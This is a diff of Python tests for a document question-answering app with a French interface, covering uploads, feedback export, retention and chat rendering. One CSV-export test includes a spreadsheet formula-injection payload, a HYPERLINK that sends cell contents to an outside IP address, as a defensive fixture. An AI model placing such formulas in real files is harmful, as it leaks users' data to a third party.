@@ -195,7 +195,11 @@ def test_writer_choices_show_unavailable_reasons(ui_settings):
 
     fake = FakeAssistant(ui_settings)
     choices = dict((v, label) for label, v in writer_choices(fake.generator_status(), "fr"))
-    assert "indisponible" in choices["llamacpp"] and "AIMF_LLM_MODEL_PATH" in choices["llamacpp"]
+    # the reason in plain words, not the variable's name
+    assert "indisponible" in choices["llamacpp"] and "fichier du modèle local n'est pas configuré" in choices["llamacpp"]
+    assert "AIMF_" not in choices["llamacpp"] and "AIMF_" not in choices["openai"]
+    english = dict((v, label) for label, v in writer_choices(fake.generator_status(), "en"))
+    assert "the model server's address is not configured" in english["openai"]
     assert "indisponible" not in choices["extractive"]
     h = Handlers(fake, ui_settings)
     assert h.check_writer("openai", "fr") == "extractive"
@@ -281,3 +285,220 @@ def test_command_modules_import_nothing_heavy():
             "print(heavy); sys.exit(1 if heavy else 0)")
     proc = subprocess.run([sys.executable, "-c", code], env=ENV, capture_output=True, text=True, timeout=60, cwd=ROOT)
     assert proc.returncode == 0, proc.stdout + proc.stderr
+
+
+# --- hardening: uploads, feedback export, retention, comment length ----------------------------------------------
+def test_upload_never_overwrites_a_file_created_after_the_name_was_checked(tmp_path, monkeypatch):
+    """Another upload of the same name lands between a check and the copy (forced here by a check that always says
+    'free'): the other user's file stays whole, this one gets its own name."""
+    from ui.documents import accept_upload
+
+    corpus = tmp_path / "corpus"
+    theirs = corpus / "uploads" / "note.txt"
+    theirs.parent.mkdir(parents=True)
+    theirs.write_text("Le fichier d'un autre utilisateur.", encoding="utf-8")
+    mine = tmp_path / "note.txt"
+    mine.write_text("Mon fichier.", encoding="utf-8")
+    monkeypatch.setattr(Path, "exists", lambda self: False)
+    dest = accept_upload(mine, "note.txt", corpus, 1, "fr")
+    monkeypatch.undo()
+    assert dest != theirs and dest.read_text(encoding="utf-8") == "Mon fichier."
+    assert theirs.read_text(encoding="utf-8") == "Le fichier d'un autre utilisateur."
+
+
+def test_failed_ingest_removes_only_its_own_upload(tmp_path, ui_settings, monkeypatch):
+    """Two uploads of one name at once: the one whose ingest fails deletes its copy, never the other's."""
+    import threading
+
+    from ui.documents import accept_upload, ingest_upload
+
+    src = tmp_path / "note.txt"
+    src.write_text("Bonjour.", encoding="utf-8")
+    barrier, dests = threading.Barrier(8), []
+
+    def upload():
+        barrier.wait()
+        dests.append(accept_upload(src, "note.txt", ui_settings.corpus_dir, 1, "fr"))
+
+    threads = [threading.Thread(target=upload) for _ in range(8)]
+    for th in threads:
+        th.start()
+    for th in threads:
+        th.join()
+    assert len(set(dests)) == 8 and all(d.read_text(encoding="utf-8") == "Bonjour." for d in dests)
+
+    class BrokenIngestor:  # FAKE: an index that refuses every write
+        def __init__(self, *args, **kwargs):
+            pass
+
+        def run(self, paths):
+            raise RuntimeError("Index indisponible")
+
+    import ingest.pipeline
+
+    monkeypatch.setattr(ingest.pipeline, "Ingestor", BrokenIngestor)
+    ok, message = ingest_upload(dests[0], ui_settings, FakeAssistant(ui_settings), "fr")
+    assert not ok and "n'a pas pu être indexé" in message
+    assert not dests[0].exists() and all(d.exists() for d in dests[1:])
+
+
+def test_csv_export_neutralises_formulas_and_reads_back_exactly(tmp_path):
+    from evals.feedback import read_records
+    from ui.feedback import FeedbackStore, export_lines
+
+    store = FeedbackStore(tmp_path / "fb.sqlite")
+    nasty = ['=HYPERLINK("http://198.51.100.7/?x="&A1,"clic")', "+33 1 23", "-2+3", "@SUM(A1)", "\tcaché",
+             "\rretour", "'déjà cité", "Normal"]
+    for text in nasty:
+        store.record("down", {"question": text, "text": "Réponse", "citations": []}, comment=text)
+    out = tmp_path / "fb.csv"
+    out.write_text("".join(export_lines(store.rows(), "csv")), encoding="utf-8", newline="")
+    with out.open(encoding="utf-8", newline="") as f:
+        cells = [row[k] for row in csv.DictReader(f) for k in ("question", "comment")]
+    assert cells and not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in cells)
+    stored = nasty + [t.strip() for t in nasty]  # questions as asked, comments stripped
+    assert {c for c in cells if c.startswith("'")} == {"'" + t for t in stored if t[:1] in "=+-@\t\r'"}
+    back = read_records(out)
+    assert [r["question"] for r in back] == nasty and [r["comment"] for r in back] == [t.strip() for t in nasty]
+
+
+def test_feedback_retention_purges_old_rows(tmp_path):
+    import sqlite3
+    from datetime import datetime, timedelta, timezone
+
+    from ui.feedback import FeedbackStore
+
+    store = FeedbackStore(tmp_path / "fb.sqlite", retention_days=30)
+    old = store.record("up", {"question": "Ancienne", "text": "R"})
+    store.record("up", {"question": "Récente", "text": "R"})
+    past = (datetime.now(timezone.utc) - timedelta(days=31)).isoformat(timespec="seconds")
+    with sqlite3.connect(tmp_path / "fb.sqlite") as db:
+        db.execute("UPDATE feedback SET created_at=?, updated_at=? WHERE id=?", (past, past, old))
+    assert [r["question"] for r in store.rows()] == ["Récente"]
+    keep = FeedbackStore(tmp_path / "fb2.sqlite", retention_days=0)  # 0: kept until deleted
+    row = keep.record("up", {"question": "Gardée", "text": "R"})
+    with sqlite3.connect(tmp_path / "fb2.sqlite") as db:
+        db.execute("UPDATE feedback SET created_at=?, updated_at=? WHERE id=?", (past, past, row))
+    assert [r["question"] for r in keep.rows()] == ["Gardée"]
+
+
+# --- what users hit in the chat ------------------------------------------------------------------------------------
+TWO = "Le marché ouvre le samedi. Les pirogues arrivent à l'aube. Le poisson fumé se vend au quai."
+
+
+def test_two_quoted_sentences_apart_get_two_highlights_and_nothing_between():
+    from ui.render import context_html, sources_html
+
+    first, second = "Le marché ouvre le samedi.", "Le poisson fumé se vend au quai."
+    record = {"text": f"{first} {second} [1]", "citations": [{
+        "n": 1, "source": "m.md", "title": "M", "quote": TWO, "passage": TWO, "quote_start": 0, "quote_end": len(TWO),
+        "start": 0, "end": len(TWO), "score": 0.8}]}
+    for html in (sources_html(record, 0, "fr"), context_html(record, "c", 0, "fr")):
+        assert re.findall(r"<mark>(.*?)</mark>", html) == [first, second]
+    # a written answer (no sentence quoted word for word): the citation's span, whole
+    record["text"] = "Le marché a lieu le samedi [1]"
+    assert len(re.findall(r"<mark>", sources_html(record, 0, "fr"))) == 1
+
+
+def test_text_around_a_passage_is_pieced_from_neighbouring_chunks():
+    from rag.context import around
+
+    doc = "Premier paragraphe du discours.\n\nDeuxième paragraphe, celui qui est cité.\n\nTroisième paragraphe, la suite."
+    a, b = doc.index("Deuxième"), doc.index("cité.") + len("cité.")
+    chunks = [(0, doc[:b]), (doc.index("celui"), doc[doc.index("celui"):])]  # overlapping, as the splitter makes them
+    before, after = around(chunks, a, b, chars=200)
+    assert before.strip() == "Premier paragraphe du discours." and after.strip() == "Troisième paragraphe, la suite."
+
+
+def test_passage_view_shows_the_text_around_it(ui_settings):
+    from ui.handlers import Handlers
+
+    class AroundAssistant(FakeAssistant):  # FAKE index: the document's neighbouring chunks
+        class retriever:
+            class store:
+                @staticmethod
+                def get(where):
+                    doc = "Le paragraphe précédent. " + PASSAGE + " Le paragraphe suivant."
+                    return [type("D", (), {"metadata": {"start": 100 - PASSAGE.index(QUOTE) - 25}, "page_content": doc})]
+
+    h = Handlers(AroundAssistant(ui_settings), ui_settings)
+    state = drain(h.respond("Qui préside ?", [], None, "extractive", 5, [], "fr"))[-1][1]
+
+    class Click:
+        _data = {"turn": 0, "kind": "c", "idx": 0}
+
+    _state, _sources, body, _box = h.show_passage(state, "fr", Click())
+    assert "Le paragraphe précédent." in body and "Le paragraphe suivant." in body and f"<mark>{QUOTE}</mark>" in body
+    assert body.index("précédent") < body.index("<mark>") < body.index("suivant")
+    assert body.count("Avant.") == 1  # the passage itself is not repeated in its surroundings
+
+
+def test_english_question_over_french_documents_says_so_in_english(ui_settings):
+    from ui.handlers import Handlers
+
+    def english(question, history):
+        answer = default_answer(question)
+        answer.lang = "en"
+        return answer
+
+    h = Handlers(FakeAssistant(ui_settings, script=english), ui_settings)
+    chat, _state, sources, *_ = drain(h.respond("Who chairs the commission?", [], None, "extractive", 5, [], "en"))[-1]
+    assert "Answer quoted from French documents." in chat[-1]["content"]
+    assert "Answer quoted word for word from the documents" in sources and "extractive" not in sources
+    h = Handlers(FakeAssistant(ui_settings), ui_settings)  # a French question over French documents: no note
+    chat = drain(h.respond("Qui préside ?", [], None, "extractive", 5, [], "fr"))[-1][0]
+    assert "aimf-lang-note" not in chat[-1]["content"]
+
+
+def test_feedback_comment_confirmed_and_dropped_when_the_vote_turns(ui_settings):
+    import gradio as gr
+
+    from ui.handlers import Handlers
+
+    h = Handlers(FakeAssistant(ui_settings), ui_settings)
+    chat, state, *_ = drain(h.respond("Qui préside ?", [], None, "extractive", 5, [], "fr"))[-1]
+    like = lambda liked: gr.LikeData(target=None, data={"index": 1, "value": chat[1]["content"], "liked": liked})  # noqa: E731
+    state, _box, vote, turn, message, _comment = h.on_like(state, "fr", like(False))
+    assert "avis est enregistré" in message
+    state, message, box = h.send_feedback(vote, "Il manque la date", turn, state, "fr")
+    assert "commentaire est enregistré" in message and box == ""
+    assert h.feedback.rows()[0]["comment"] == "Il manque la date"
+    state, _box, vote, _turn, _message, comment_box = h.on_like(state, "fr", like(True))
+    assert vote == "up" and comment_box == "" and h.feedback.rows()[0]["comment"] == ""
+    assert h.feedback.rows()[0]["vote"] == "up"
+
+
+def test_comment_beyond_the_limit_is_refused_with_its_length(ui_settings):
+    from ui.handlers import Handlers
+
+    settings = ui_settings.model_copy(update={"feedback_max_comment_chars": 50})
+    h = Handlers(FakeAssistant(settings), settings)
+    state = drain(h.respond("Qui préside ?", [], None, "extractive", 5, [], "fr"))[-1][1]
+    _state, message, box = h.send_feedback("down", "x" * 80, None, state, "fr")
+    assert "80 caractères" in message and "maximum 50" in message and not h.feedback.rows()
+    assert box is not None and box != ""  # the comment stays in the box (gr.skip), to be shortened
+
+
+def test_two_questions_in_one_session_keep_both_turns(ui_settings):
+    """The page sends both questions with the chat it held before either answer: the second continues from the
+    first's answer instead of replacing it."""
+    from ui.handlers import Handlers, new_state
+
+    h = Handlers(FakeAssistant(ui_settings), ui_settings)
+    request = type("Request", (), {"session_hash": "s1"})()
+    state0 = new_state()
+    first = drain(h.respond("Qui préside ?", [], state0, "extractive", 5, [], "fr", request))[-1]
+    second = drain(h.respond("Depuis quand ?", [], state0, "extractive", 5, [], "fr", request))[-1]
+    chat, state = second[0], second[1]
+    assert [m["content"] for m in chat if m["role"] == "user"] == ["Qui préside ?", "Depuis quand ?"]
+    assert len(state["turns"]) == 2 and state["turns"][1]["msg_index"] == 3 and first[1]["turns"][0]["msg_index"] == 1
+    other = drain(h.respond("Autre ?", [], new_state(), "extractive", 5, [], "fr", request))[-1]  # a new conversation
+    assert len(other[1]["turns"]) == 1
+
+
+def test_upload_limit_follows_the_file_size_setting(tmp_path):
+    from rag.settings import Settings
+
+    assert Settings(_env_file=None, max_file_mb=50).upload_limit_mb == 50
+    assert Settings(_env_file=None, max_file_mb=50, ui_max_upload_mb=5).upload_limit_mb == 5
+    assert Settings(_env_file=None, max_file_mb=10, ui_max_upload_mb=20).upload_limit_mb == 10  # ingest refuses more
